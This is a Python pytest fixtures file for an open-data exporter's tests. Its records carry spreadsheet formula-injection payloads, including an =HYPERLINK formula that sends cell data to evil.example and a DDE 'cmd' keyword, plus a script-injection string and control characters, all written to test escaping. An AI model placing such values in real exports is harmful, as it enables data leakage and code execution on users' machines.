"""Fixtures of the open-data exporters' tests: the demo workspace (synced once), and a
workspace of hostile records (formulas, scripts, control characters, very long texts,
missing fields, all-day, cancelled and overseas events, personal data)."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from rrma_core import Workspace
from rrma_core.cli import main
from rrma_core.exporters import ExportContext
from rrma_core.models import (
    Actor,
    CallForProjects,
    Campaign,
    CampaignEdition,
    Event,
    MultiActorSpace,
    Observation,
    Programme,
    Project,
    Record,
    Resource,
    Training,
)

#: The one instant every direct export in these tests runs at.
NOW = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)
PARIS = ZoneInfo("Europe/Paris")

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
SCRIPT = "<script>alert('x')</script></script><!--"
CONTROLS = "\x00\x07\x1b\x0b\x0c\x7f\x85"
LONG = "Lorem ipsum dolor sit amet. " * 2_000  # 56,000 characters
PERSON_EMAIL = "marie.dupont@example.org"
TRAINER_EMAIL = "j.martin@example.org"


def hostile_records() -> list[Record]:
    """Records written to break exporters; every one is valid."""
    return [
        Event(
            id="evt-formula",
            title=FORMULA,
            description=f"{SCRIPT} {CONTROLS} ligne 1\r\nligne 2",
            occurrences=[
                {"start": "2026-11-21T20:00:00+01:00", "end": "2026-11-21T22:00:00+01:00"},
                {"start": "2026-11-14T20:00:00+01:00", "end": "2026-11-14T22:00:00+01:00"},
                {"start": "2026-11-28T15:00:00+01:00"},
            ],
            venue={
                "name": "@Salle des fêtes",
                "address": {
                    "street": "1 place Bellecour",
                    "postal_code": "69002",
                    "city": "Lyon",
                    "commune": "69123",
                },
                "coordinates": {"lat": 45.7578, "lon": 4.832},
            },
            organisers=[{"name": "@SUM(1+1)"}, {"name": "+33 6 12 34 56 78"}],
            keywords=["-12", "@mention", "cmd|' /C calc'!A0"],
            status="cancelled",
            event_kind="projection-debat",
            audiences=["general-public", "school"],
            price={"free": True},
            campaign_edition="festisol-2026",
            themes=["eau"],
            sdgs=[6, 13],
            url="https://example.org/agenda/formula",
        ),
        Event(
            id="evt-allday",
            title={"fr": "Marché des solidarités", "en": "Solidarity market"},
            occurrences=[{"start": "2026-11-14", "end": "2026-11-15"}],
            venue={
                "name": "Place des Terreaux",
                "address": {"commune": "69123"},
                "coordinates": {"lat": 45.7676, "lon": 4.8344},
            },
            attendance_mode="mixed",
            online_url="https://visio.example.org/marche",
            status="postponed",
            event_kind="marche-solidarites",
        ),
        Event(
            id="evt-online",
            title="Webinaire : monter un projet",
            occurrences=[
                {"start": "2026-12-03T18:00:00+01:00", "end": "2026-12-03T19:30:00+01:00"}
            ],
            attendance_mode="online",
            online_url="https://visio.example.org/webinaire",
            registration_url="https://example.org/inscription",
            status="moved-online",
            price={"amount": 5, "text": "5 €"},
        ),
        Event(
            id="evt-guadeloupe",
            title="Rencontre à Basse-Terre",
            # Given in UTC, as some feeds do: 19:00 in Guadeloupe.
            occurrences=[{"start": "2026-11-20T23:00:00+00:00"}],
            venue={
                "address": {"commune": "97105", "city": "Basse-Terre"},
                "coordinates": {"lat": 15.9985, "lon": -61.7261},
            },
            status="full",
        ),
        Event(
            id="evt-long",
            title="-12 degrés : le climat en débat",
            description=LONG,
            occurrences=[{"start": "2026-12-10"}],
        ),
        CallForProjects(
            id="call-date",
            title="Appel « eau » 2027",
            funders=[{"name": "=1+1"}, {"name": "Agence de l'eau"}],
            published_on="2026-10-01",
            opens_on="2026-10-15",
            deadline="2026-12-01",
            amount={"min": 1000, "max": 5000.5, "rate": 50, "text": "-50 % du budget"},
            eligible_actor_types=["association", "osim"],
            perimeter={"regions": ["84"], "departements": ["69", "38"], "text": "AURA"},
            themes=["eau", "sante"],
            sdgs=[6],
            countries=["SN", "BF"],
        ),
        CallForProjects(
            id="call-datetime",
            title="Appel à midi",
            deadline="2026-12-15T12:00:00+01:00",
            perimeter={"national": True},
        ),
        CallForProjects(id="call-closed", title="Appel clos", deadline="2026-10-01"),
        CallForProjects(id="call-bare", title="Appel sans rien"),
        Actor(
            id="actor-formula",
            name="=Association piégée",
            actor_type="association",
            rna="W691004512",
            siret="84215736400014",
            head_office={
                "name": "Maison des associations",
                "address": {
                    "street": "-3 rue du Moins",
                    "postal_code": "69007",
                    "city": "Lyon",
                    "commune": "69123",
                },
                "coordinates": {"lat": 45.7495, "lon": 4.8402},
            },
            countries=["SN", "ML"],
            sectors=["eau", "agriculture"],
            sdgs=[2, 6],
            memberships=[{"name": "RESACOOP"}],
            contacts=[
                {
                    "name": "Marie Dupont",
                    "email": PERSON_EMAIL,
                    "role": "présidente",
                    "phone": "+33 6 11 22 33 44",
                }
            ],
        ),
        Actor(id="actor-nowhere", name="Collectif sans adresse", actor_type="other"),
        Resource(
            id="res-plus",
            title="+Guide de l'ECSI",
            resource_kind="methodological-guide",
            authors=[{"name": "RESACOOP"}],
            themes=["ecsi"],
            published_on="2026-09-01",
            licence="CC-BY-SA-4.0",
            languages=["fr"],
        ),
        Training(
            id="training-ecsi",
            title="Animer un atelier ECSI",
            themes=["ecsi"],
            training_format="short-cycle",
            hours=14,
            sessions=[
                {
                    "start": "2027-02-04T09:30:00+01:00",
                    "end": "2027-02-04T17:00:00+01:00",
                    "venue": {"address": {"city": "Lyon", "commune": "69123"}},
                    "trainers": [{"name": "Jean Martin", "email": TRAINER_EMAIL}],
                    "capacity": 12,
                    "registrations": [
                        {"trainee": {"name": "Awa Diallo", "email": "awa@example.org"}}
                    ],
                }
            ],
            price={"amount": 30},
        ),
        MultiActorSpace(
            id="space-senegal",
            name="Groupe pays Sénégal",
            space_kind="geographic",
            countries=["SN"],
            members=[{"actor": {"name": "=Association piégée"}, "role": "animator"}],
            meetings=[
                {
                    "start": "2026-09-10T18:00:00+02:00",
                    "attendance": 14,
                    "participants": [{"name": "Awa Diallo", "email": "awa@example.org"}],
                }
            ],
        ),
        Observation(
            indicator="actors.count",
            value=412,
            period={"start": "2025-01-01", "end": "2025-12-31"},
            dimensions={"departement": "69"},
            origin="computed",
        ),
        Project(
            id="project-kaya",
            title="Accès à l'eau à Kaya",
            countries=["BF"],
            sectors=["eau"],
            partners=[{"actor": {"name": "Ville de Kaya"}, "role": "implementing"}],
            budget={"amount": 120000},
            start="2025-01-01",
            end="2027-12-31",
        ),
        Programme(id="programme-pra", title="PRA OSIM", programme_kind="funding-scheme"),
        Campaign.from_vocabulary("festisol"),
        CampaignEdition(campaign="festisol", year=2026, figures={"events": 120}),
    ]


@pytest.fixture(scope="session")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo workspace, synced once for every test of this package."""
    root = tmp_path_factory.mktemp("opendata-demo") / "ws"
    main(["demo", str(root)])
    return root


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace holding the hostile records."""
    root = tmp_path_factory.mktemp("opendata-hostile") / "ws"
    with Workspace.init(root, name="Réseau <b>test</b> ; =1+1", region="84") as ws:
        for record in hostile_records():
            ws.add(record)
    return root


@pytest.fixture
def ws_demo(demo: Path) -> Iterator[Workspace]:
    """The demo workspace, opened."""
    with Workspace.open(demo) as ws:
        yield ws


@pytest.fixture
def ws_hostile(hostile: Path) -> Iterator[Workspace]:
    """The hostile workspace, opened."""
    with Workspace.open(hostile) as ws:
        yield ws


def context(**changes: Any) -> ExportContext:
    """An export context at ``NOW`` in Paris (French unless told otherwise)."""
    values: dict[str, Any] = {"workspace": "Réseau test", "timezone": PARIS, "now": NOW}
    values.update(changes)
    return ExportContext(**values)
